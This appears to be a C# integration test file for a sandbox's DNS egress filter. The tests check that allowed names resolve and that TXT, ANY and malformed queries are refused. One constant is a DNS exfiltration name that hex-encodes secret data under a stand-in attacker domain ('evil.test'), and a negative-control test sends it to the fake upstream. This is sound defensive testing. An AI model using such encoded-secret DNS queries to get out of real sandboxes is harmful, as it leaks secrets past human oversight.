using System.Net;
using Labd.Egress;
using Labd.IntegrationTests.TestBed;

namespace Labd.IntegrationTests.Egress;

/// <summary>ESCAPE-SUITE N10: DNS answers only A/AAAA for allowed names; nothing else leaves.</summary>
[Collection(FakeInternetTests.Name)]
public sealed class DnsTests(FakeInternet inet)
{
    private const string ExfilName = "6b65792d73656372.x.evil.test";

    [Theory(Timeout = 30_000)]
    [InlineData(false)]
    [InlineData(true)]
    public async Task N10_allowed_name_is_answered_with_its_address(bool tcp)
    {
        var ct = TestContext.Current.CancellationToken;
        await using var h = await EgressHarness.StartAsync(inet, ct);

        var (rcode, addresses) = await DnsClient.QueryAsync(DnsEndpoint(h), "allowed.test", DnsRecordTypes.A, tcp, ct);

        Assert.Equal((DnsRecordTypes.NoError, FakeInternet.AllowedAddress), (rcode, Assert.Single(addresses)));
        Assert.Equal((EgressKinds.Dns, "allowed.test", true), (h.LastDecision.Kind, h.LastDecision.Host, h.LastDecision.Allowed));
    }

    [Theory(Timeout = 30_000)]
    [InlineData(false)]
    [InlineData(true)]
    public async Task N10_exfiltration_labels_are_refused_and_never_sent_upstream(bool tcp)
    {
        var ct = TestContext.Current.CancellationToken;
        await using var h = await EgressHarness.StartAsync(inet, ct);
        var dns = LogMark.Of(inet.DnsLog);
        var evil = LogMark.Of(inet.EvilLog);

        var (rcode, addresses) = await DnsClient.QueryAsync(DnsEndpoint(h), ExfilName, DnsRecordTypes.A, tcp, ct);
        var (txtCode, _) = await DnsClient.QueryAsync(DnsEndpoint(h), "allowed.test", 16, tcp, ct);
        var (anyCode, _) = await DnsClient.QueryAsync(DnsEndpoint(h), "allowed.test", 255, tcp, ct);

        Assert.Equal((DnsRecordTypes.Refused, 0), (rcode, addresses.Count));
        Assert.Equal(DnsRecordTypes.Refused, txtCode);
        Assert.Equal(DnsRecordTypes.Refused, anyCode);
        Assert.Empty(dns.NewText());
        Assert.Empty(evil.NewText());
        Assert.All(h.Decisions, d => Assert.False(d.Allowed));
    }

    [Fact(Timeout = 30_000)]
    public async Task N10_negative_control_the_upstream_log_does_record_a_query_sent_to_it()
    {
        var ct = TestContext.Current.CancellationToken;
        inet.RequireAvailable();
        var dns = LogMark.Of(inet.DnsLog);

        _ = await DnsClient.QueryAsync(new IPEndPoint(FakeInternet.DnsAddress, 53), ExfilName, DnsRecordTypes.A, tcp: false, ct);

        await dns.WaitForAsync("6b65792d73656372", ct);
    }

    [Fact(Timeout = 30_000)]
    public async Task N10_malformed_queries_get_refused_or_nothing()
    {
        var ct = TestContext.Current.CancellationToken;
        await using var h = await EgressHarness.StartAsync(inet, ct);
        var dns = LogMark.Of(inet.DnsLog);
        byte[] compressed = [0x42, 0x42, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 12, 0, 1, 0, 1];

        var response = await DnsClient.ExchangeAsync(DnsEndpoint(h), compressed, tcp: false, ct);

        Assert.Equal(DnsRecordTypes.Refused, response[3] & 0xf);
        Assert.Empty(dns.NewText());
    }

    private static IPEndPoint DnsEndpoint(EgressHarness h) => new(h.Egress.ListenAddress, h.Egress.DnsPort);
}
